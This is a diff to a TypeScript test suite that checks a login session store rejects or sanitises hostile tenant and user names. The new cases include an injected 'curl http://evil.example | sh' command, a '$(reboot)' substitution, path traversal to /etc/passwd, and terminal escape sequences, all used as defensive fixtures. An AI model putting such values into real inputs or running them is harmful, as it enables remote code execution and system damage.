@@ -147,6 +147,16 @@ for (const [how, keyring] of [
         "its session.tenantId is not as it must be",
       ],
       [
+        "with a command for a name of the tenant",
+        (text: string) => text.replace('"contoso.example"', '"evil.example; curl http://evil.example | sh #"'),
+        "its session.tenantNames.0 is not as it must be",
+      ],
+      [
+        "with a folder for a name of the tenant",
+        (text: string) => text.replace('"contoso.example"', '"contoso..example"'),
+        "its session.tenantNames.0 is not as it must be",
+      ],
+      [
         "another client's by its content",
         (text: string) => text.replace(SESSION.clientId, SESSION.tenantId),
         "it has the name of another sign-in",
@@ -251,16 +261,16 @@ for (const [what, data] of [
     expect((await refusalOf(saving)).message).toContain("its tokens are not as MSAL writes them");
   });
 
-test("names that would do harm in a terminal or a path are kept as they are, and stay out of messages", async () => {
+test("a name that would do harm in a terminal stays out of messages, and names that no tenant can have are not kept", async () => {
   const dir = temporaryFolder();
   const hostile = {
     ...SESSION,
     userName: "\u001b]0;pwned\u0007 ../../etc/passwd \u202Egnp.exe",
-    tenantNames: ["..\\..\\con", "__proto__", "\u0000"],
+    tenantNames: ["..\\..\\con", "müller.example", "__proto__", "\u0000", "$(reboot).example", "a b"],
   };
   const keyring = memoryKeyring();
   await storeIn(dir, { keyring }).save(hostile, tokens);
-  expect((await storeIn(dir, { keyring }).list()).sessions).toEqual([hostile]);
+  expect((await storeIn(dir, { keyring }).list()).sessions).toEqual([{ ...hostile, tenantNames: ["müller.example"] }]);
   expect(readdirSync(path.join(dir, "sessions"))).toHaveLength(1);
   keyring.keys.clear();
   const application = msal(new ScriptedLogin("b"), storeIn(dir, { keyring }).pluginFor(hostile));
